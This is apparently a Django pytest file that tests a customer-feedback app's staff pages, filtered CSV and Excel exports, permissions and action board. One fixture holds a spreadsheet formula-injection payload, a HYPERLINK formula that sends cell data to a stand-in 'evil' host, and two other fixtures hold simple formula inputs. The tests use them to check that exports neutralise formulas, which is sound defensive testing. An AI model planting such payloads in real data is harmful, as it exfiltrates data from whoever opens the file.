"""Staff pages: list with filters and exports, staff entry, corrections, board, permissions, English."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pandas as pd
import pytest
from django.test import Client
from django.utils import timezone

from feedback import services
from feedback.models import Feedback, ImprovementAction
from tests.feedback.factories import FeedbackFactory, ImprovementActionFactory
from touchpoints.models import Touchpoint

pytestmark = pytest.mark.django_db


def _login(client: Client, user: Any) -> Client:
    client.force_login(user)
    return client


def test_the_list_shows_own_department_and_filters(
    client: Client, manager: Any, store: Touchpoint, webshop: Touchpoint
) -> None:
    FeedbackFactory(touchpoint=store, text="Kasse eigene Abteilung", sentiment="negative")
    FeedbackFactory(touchpoint=store, text="Lob eigene Abteilung", kind="praise", sentiment="positive")
    FeedbackFactory(touchpoint=webshop, text="Fremde Abteilung")
    html = _login(client, manager).get("/feedback/").content.decode()
    assert "Kasse eigene Abteilung" in html and "Lob eigene Abteilung" in html
    assert "Fremde Abteilung" not in html
    html = client.get("/feedback/?kind=praise").content.decode()
    assert "Lob eigene Abteilung" in html and "Kasse eigene Abteilung" not in html
    today = timezone.localdate()
    html = client.get(f"/feedback/?sentiment=negative&date_from={today - dt.timedelta(days=29)}&date_to={today}")
    assert "Kasse eigene Abteilung" in html.content.decode() and "Lob eigene Abteilung" not in html.content.decode()
    html = client.get(f"/feedback/?touchpoint={store.pk}").content.decode()
    assert "Kasse eigene Abteilung" in html
    html = client.get(f"/feedback/?touchpoint_slug={store.slug}").content.decode()
    assert "Kasse eigene Abteilung" in html


def test_the_quick_periods_fill_date_from_and_date_to(client: Client, manager: Any, store: Touchpoint) -> None:
    FeedbackFactory(touchpoint=store, text="Vor zwei Wochen", created_at=timezone.now() - dt.timedelta(days=14))
    FeedbackFactory(touchpoint=store, text="Gestern", created_at=timezone.now() - dt.timedelta(days=1))
    html = _login(client, manager).get("/feedback/?kind=criticism").content.decode()
    today = timezone.localdate()
    week = f"kind=criticism&amp;date_from={today - dt.timedelta(days=6)}&amp;date_to={today}"
    assert f'href="?{week}"' in html and "letzte 7 Tage" in html and "letzte 90 Tage" in html
    html = client.get(f"/feedback/?{week.replace('&amp;', '&')}").content.decode()
    assert "Gestern" in html and "Vor zwei Wochen" not in html
    assert 'aria-current="true">letzte 7 Tage' in html


def test_an_invalid_filter_shows_its_error_and_no_rows(client: Client, manager: Any, store: Touchpoint) -> None:
    FeedbackFactory(touchpoint=store, text="Irgendwas")
    response = _login(client, manager).get("/feedback/?touchpoint=gibt-es-nicht&date_from=kein-datum")
    assert response.status_code == 400
    assert "Irgendwas" not in response.content.decode()
    response = client.get("/feedback/?date_from=2026-03-02&date_to=2026-03-01")
    assert response.status_code == 400 and "Das Enddatum liegt vor dem Startdatum." in response.content.decode()


def test_the_csv_export_is_german_excel_csv_and_follows_the_filters(
    client: Client, cx_admin: Any, store: Touchpoint
) -> None:
    FeedbackFactory(touchpoint=store, text='=HYPERLINK("http://evil?"&A1,"klick")', kind="criticism",
                    sentiment_score=-0.75, rating=2)
    FeedbackFactory(touchpoint=store, text="Schön hier", kind="praise", sentiment="positive")
    _login(client, cx_admin)
    response = client.get("/feedback/?kind=criticism&export=csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    frame = pd.read_csv(io.BytesIO(response.content), sep=";", decimal=",", encoding="utf-8-sig")
    assert list(frame["Art"]) == ["Kritik"]
    assert list(frame["Kontaktpunkt"]) == [store.name]
    assert frame["Stimmungswert"][0] == -0.75
    assert frame["Bewertung (1–5)"][0] == 2
    assert frame["Text"][0] == '\'=HYPERLINK("http://evil?"&A1,"klick")'  # shown as text, never a formula


def test_the_excel_export_has_typed_cells_and_no_formulas(client: Client, cx_admin: Any, store: Touchpoint) -> None:
    from openpyxl import load_workbook

    FeedbackFactory(touchpoint=store, text="=1+2", kind="criticism", rating=1)
    FeedbackFactory(touchpoint=store, text="@SUMME(A1)", kind="praise", sentiment="positive")
    response = _login(client, cx_admin).get("/feedback/?export=xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    text, kind = header.index("Text") + 1, header.index("Art") + 1
    cells = [sheet.cell(row=row, column=text) for row in (2, 3)]
    assert sorted(cell.value for cell in cells) == ["=1+2", "@SUMME(A1)"]
    assert all(cell.data_type == "s" for cell in cells)
    assert sorted(sheet.cell(row=row, column=kind).value for row in (2, 3)) == ["Kritik", "Lob"]
    assert isinstance(sheet.cell(row=2, column=header.index("eingegangen") + 1).value, dt.datetime)
    frame = pd.read_excel(io.BytesIO(response.content))
    assert {"Kontaktpunkt", "Stimmung", "Themen", "Status"} <= set(frame.columns)


def test_the_export_speaks_english_with_commas_and_dots(client: Client, cx_admin: Any, store: Touchpoint) -> None:
    FeedbackFactory(touchpoint=store, text="Fine", kind="praise", sentiment="positive", sentiment_score=0.5)
    response = _login(client, cx_admin).get("/feedback/?export=csv", HTTP_ACCEPT_LANGUAGE="en")
    frame = pd.read_csv(io.BytesIO(response.content), encoding="utf-8-sig")
    assert list(frame["Kind"]) == ["Praise"] and frame["Sentiment score"][0] == 0.5


def test_staff_record_feedback_heard_at_the_counter(client: Client, agent: Any, store: Touchpoint) -> None:
    response = _login(client, agent).post(
        "/feedback/new/",
        {"touchpoint": store.pk, "kind": "criticism", "text": "Kunde beschwert sich über lange Wartezeit.",
         "channel": "staff"},
    )
    item = Feedback.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/feedback/{item.pk}/"
    assert item.channel == "staff" and item.created_by == agent and item.sentiment == "negative"


def test_staff_entry_with_bad_input_shows_errors(client: Client, agent: Any, store: Touchpoint, webshop: Any) -> None:
    _login(client, agent)
    response = client.post("/feedback/new/", {"touchpoint": store.pk, "kind": "praise", "text": "", "channel": "staff"})
    assert response.status_code == 400 and not Feedback.objects.exists()
    response = client.post(
        "/feedback/new/", {"touchpoint": webshop.pk, "kind": "praise", "text": "Hallo", "channel": "staff"}
    )
    assert response.status_code == 400 and not Feedback.objects.exists()  # another department's touchpoint
    response = client.post(
        "/feedback/new/",
        {"touchpoint": store.pk, "kind": "praise", "text": "Hallo", "channel": "staff", "customer": "K-unbekannt"},
    )
    assert response.status_code == 400 and "Kundennummer" in response.content.decode()


def test_staff_correct_the_analysis_on_the_detail_page(client: Client, agent: Any, store: Touchpoint) -> None:
    item = services.feedback_create(kind="praise", text="Alles bestens", touchpoint=store, channel="qr_code")
    response = _login(client, agent).post(
        f"/feedback/{item.pk}/", {"sentiment": "neutral", "topics": ["Beratung", "Preis"], "status": "reviewed"}
    )
    assert response.status_code == 302
    item.refresh_from_db()
    assert item.sentiment == "neutral" and item.sentiment_source == "staff" and item.status == "reviewed"
    assert sorted(item.topics.values_list("name", flat=True)) == ["Beratung", "Preis"]
    assert "von Mitarbeitenden korrigiert" in client.get(f"/feedback/{item.pk}/").content.decode()


def test_other_departments_records_are_404_and_trainers_get_403(
    client: Client, manager: Any, trainer: Any, webshop: Touchpoint, other_department: Any
) -> None:
    foreign = FeedbackFactory(touchpoint=webshop)
    action = ImprovementActionFactory(department=other_department)
    _login(client, manager)
    assert client.get(f"/feedback/{foreign.pk}/").status_code == 404
    assert client.get(f"/feedback/improvements/{action.pk}/").status_code == 404
    assert client.post(f"/feedback/improvements/{action.pk}/transition/", {"to": "planned"}).status_code == 404
    assert client.get(f"/feedback/posters/{webshop.slug}/qr.png").status_code == 404
    _login(client, trainer)
    for url in ("/feedback/", "/feedback/new/", "/feedback/improvements/", "/feedback/posters/"):
        assert client.get(url).status_code == 403, url


def test_agents_cannot_create_or_move_actions(client: Client, agent: Any, department: Any) -> None:
    action = ImprovementActionFactory(department=department)
    _login(client, agent)
    assert client.get(f"/feedback/improvements/{action.pk}/").status_code == 200
    assert client.get("/feedback/improvements/new/").status_code == 403
    assert client.post(f"/feedback/improvements/{action.pk}/transition/", {"to": "planned"}).status_code == 403
    action.refresh_from_db()
    assert action.status == "idea"


def test_the_department_walks_an_action_to_done_on_the_pages(
    client: Client, manager: Any, store: Touchpoint, department: Any, mailoutbox: list,
    django_capture_on_commit_callbacks: Any,
) -> None:
    item = services.feedback_create(
        kind="criticism", text="Viel zu lange Schlange an der Kasse.", touchpoint=store, channel="qr_code",
        contact_email="kundin@example.org", contact_consent=True,
    )
    _login(client, manager)
    response = client.post(
        f"/feedback/improvements/new/?feedback={item.pk}",
        {"title": "Zweite Kasse öffnen", "department": department.pk, "touchpoints": [store.pk],
         "from_feedback": item.pk},
    )
    action = ImprovementAction.objects.get()
    assert response.status_code == 302 and list(action.feedback.all()) == [item]
    board = client.get("/feedback/improvements/").content.decode()
    assert "Zweite Kasse öffnen" in board
    for status in ("planned", "in_progress"):
        client.post(f"/feedback/improvements/{action.pk}/transition/", {"to": status})
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/feedback/improvements/{action.pk}/transition/", {"to": "done"})
    action.refresh_from_db()
    assert action.status == "done"
    assert [m.to for m in mailoutbox] == [["kundin@example.org"]]
    detail = client.get(f"/feedback/improvements/{action.pk}/").content.decode()
    assert 'id="impact-table"' in detail and "Anteil negativ" in detail


def test_a_skipping_transition_shows_a_message(client: Client, manager: Any, department: Any) -> None:
    action = ImprovementActionFactory(department=department)
    response = _login(client, manager).post(
        f"/feedback/improvements/{action.pk}/transition/", {"to": "done"}, follow=True
    )
    assert "geht es nicht direkt" in response.content.decode()


def test_linking_feedback_on_the_action_page(client: Client, manager: Any, store: Touchpoint, webshop: Any) -> None:
    action = ImprovementActionFactory(department=store.department)
    own = FeedbackFactory(touchpoint=store)
    foreign = FeedbackFactory(touchpoint=webshop)
    _login(client, manager)
    client.post(f"/feedback/improvements/{action.pk}/feedback/", {"feedback_id": own.pk})
    client.post(f"/feedback/improvements/{action.pk}/feedback/", {"feedback_id": foreign.pk})
    assert list(action.feedback.all()) == [own]


def test_pages_speak_english(client: Client, manager: Any, store: Touchpoint) -> None:
    FeedbackFactory(touchpoint=store)
    html = _login(client, manager).get("/feedback/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Export CSV" in html and "Criticism" in html
    html = client.get("/feedback/improvements/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Improvement actions" in html and "In progress".lower() in html.lower()
